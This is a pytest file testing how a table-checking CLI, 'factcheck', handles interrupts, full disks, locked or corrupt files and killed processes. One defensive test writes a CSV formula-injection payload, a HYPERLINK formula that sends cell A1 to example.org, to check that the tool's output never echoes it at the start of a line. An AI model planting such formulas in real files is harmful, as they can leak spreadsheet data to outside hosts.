"""Whatever happens to the files, the disk or the process: a clear outcome, and what stood there before is not lost."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from factcheck.cli import main
from factcheck.tables.engines import duck
from factcheck.tables.judged import rows

FOLDER = Path(__file__).parent / "tables"
TABLE = FOLDER / "pit-accidents.csv"
FULL = Path("/dev/full")


Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str]) -> Run:
    def running(*arguments: object) -> tuple[int, str, str]:
        try:
            status = main(["table", *map(str, arguments)], prog_name="factcheck")
        except SystemExit as left:
            status = int(left.code or 0)
        captured = capsys.readouterr()
        return status, captured.out, captured.err

    return running


@pytest.mark.parametrize("threads", [1, 4])
def test_ctrl_c_within_a_question_is_ctrl_c(threads: int) -> None:
    endless = "SELECT count(*) FROM range(1000000000000) AS counted(row) WHERE row % 7 = 5"
    with duck.opened() as connection:
        connection.execute(f"SET threads = {threads}")
    begun = time.monotonic()
    threading.Timer(0.3, os.kill, [os.getpid(), signal.SIGINT]).start()  # the engine runs: to start it may take longer
    try:
        with pytest.raises(KeyboardInterrupt), duck.opened() as connection:
            connection.execute(endless).fetchall()
    finally:
        with duck.opened() as connection:
            connection.execute("RESET threads")
    assert time.monotonic() - begun < 10
    assert signal.set_wakeup_fd(-1) == -1


def test_a_table_that_brings_the_checker_down_costs_the_others_nothing(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    judge, faults = rows.judge, [ZeroDivisionError("division by zero")]

    def failing(*given: Any) -> Any:
        if faults:
            raise faults.pop()
        return judge(*given)

    monkeypatch.setattr(rows, "judge", failing)
    status, out, err = run(TABLE, TABLE)
    assert status == 2
    assert "table/parts-off-total" in out
    assert "a fault of factcheck, please report it: ZeroDivisionError: division by zero" in err


@pytest.mark.skipif(not FULL.exists(), reason="there is no /dev/full on this system")
@pytest.mark.parametrize("arguments", [("--output", FULL), ("--format", f"jsonl={FULL}"), ("--suggest", "--output", FULL)])
def test_a_full_disk_is_told_in_a_line(run: Run, arguments: tuple[object, ...]) -> None:
    status, _, err = run(TABLE, *arguments)
    assert status == 2
    assert "No space left on device" in err
    assert "Traceback" not in err


@pytest.mark.skipif(not FULL.exists(), reason="there is no /dev/full on this system")
def test_a_full_disk_behind_standard_output_is_told_in_a_line() -> None:
    with FULL.open("w") as stream:
        words = [sys.executable, "-m", "factcheck", "table", str(TABLE), "--format", "jsonl"]
        done = subprocess.run(words, stdout=stream, stderr=subprocess.PIPE, check=False, text=True)
    assert done.returncode == 2
    assert "No space left on device" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="nothing is locked for whoever may read everything")
def test_a_locked_file_costs_the_others_nothing(run: Run, tmp_path: Path) -> None:
    locked = tmp_path / "locked.csv"
    locked.write_text("a,b\n1,2\n", "utf-8")
    locked.chmod(0)
    status, out, err = run(locked, TABLE)
    assert status == 2
    assert "locked.csv: " in err
    assert "table/parts-off-total" in out


@pytest.mark.parametrize("name", ["table.csv", "table.jsonl", "table.parquet"])
def test_a_folder_in_the_place_of_a_file_costs_the_others_nothing(run: Run, tmp_path: Path, name: str) -> None:
    (tmp_path / name).mkdir()
    status, out, err = run(tmp_path / name, TABLE)
    assert status == 2
    assert name in err
    assert "table/parts-off-total" in out
    assert "Traceback" not in err


@pytest.mark.parametrize("name", ["table.csv", "table.jsonl", "table.parquet"])
def test_a_file_that_vanishes_costs_the_others_nothing(run: Run, tmp_path: Path, name: str) -> None:
    (tmp_path / name).symlink_to(tmp_path / "gone")
    status, out, err = run(tmp_path, TABLE)
    assert status == 2
    assert name in err
    assert "table/parts-off-total" in out
    assert "Traceback" not in err


def test_a_torn_parquet_file_costs_the_others_nothing(run: Run, tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    torn = tmp_path / "torn.parquet"
    pq.write_table(pa.table({"total": list(range(9000)), "men": [3] * 9000}), torn)
    data = torn.read_bytes()
    torn.write_bytes(data[:2000] + b"\xff" * 2000 + data[4000:])  # the head is whole, the cells are not
    (tmp_path / "cut.parquet").write_bytes(data[: len(data) // 2])
    status, out, err = run(torn, tmp_path / "cut.parquet", TABLE)
    assert status == 2
    assert "cut.parquet: " in err
    assert "table/parts-off-total" in out
    assert "Traceback" not in err


def test_a_parquet_file_written_anew_is_read_anew(run: Run, tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "table.parquet"
    for rows_, wrong in ((90, 7), (60, 9), (60, 8), (300, 200)):
        columns = {"men": [*range(rows_)], "women": [2 * row for row in range(rows_)], "total": [3 * row for row in range(rows_)]}
        columns["total"][wrong] += 1
        pq.write_table(pa.table(columns), path)
        status, out, _ = run(path)
        assert status == 1
        assert f"row {wrong + 1}" in out


@pytest.mark.slow
@pytest.mark.parametrize("moment", [0.1, 0.5, 1.0, 2.0])
def test_a_kill_at_any_moment_leaves_the_good_output_in_place(tmp_path: Path, moment: float) -> None:
    output = tmp_path / "report.jsonl"
    output.write_text("the good one\n", "utf-8")
    large = tmp_path / "large.csv"
    rows = "".join(f"{at},{at % 97},{at % 89},{at % 97 + at % 89 + (at % 5000 == 7)}\n" for at in range(400_000))
    large.write_text("id,men,women,total\n" + rows, "utf-8")
    words = [sys.executable, "-m", "factcheck", "table", str(large), "--format", "jsonl", "--output", str(output)]
    running = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(moment)
    running.send_signal(signal.SIGKILL)
    running.wait()
    assert output.read_text("utf-8") == "the good one\n" or running.returncode == 1


@pytest.mark.parametrize("format_", ["jsonl", "console", "sarif", "junit", "gitlab", "markdown", "github"])
def test_the_same_tables_give_the_same_bytes(run: Run, format_: str) -> None:
    first, second = (run(FOLDER / "quakes.csv", TABLE, "--format", format_)[1] for _ in range(2))
    assert first == second != ""


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_formula_in_a_cell_starts_no_line_of_what_is_shown(run: Run, tmp_path: Path, sign: str) -> None:
    path = tmp_path / "table.csv"
    formula = f'{sign}HYPERLINK("http://example.org/?"&A1)'
    rows = [f"{10 + at},{at},{10 + 2 * at if at != 7 else 99}" for at in range(12)]
    quoted = formula.replace('"', '""')
    path.write_text("\n".join([f'"{quoted}",women,{sign}total', *rows]), "utf-8")
    for format_ in ("console", "markdown", "jsonl"):
        _, out, err = run(path, "--format", format_)
        assert "Traceback" not in err
        assert not any(line.startswith(formula) for line in out.splitlines())


def test_pandas_is_not_imported() -> None:
    ran = f"main(['table', {str(TABLE)!r}], standalone_mode=False)"
    code = f"import sys; from factcheck.cli import main; {ran}; print('pandas' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False, text=True)
    assert done.stdout.splitlines()[-1] == "False", done.stderr
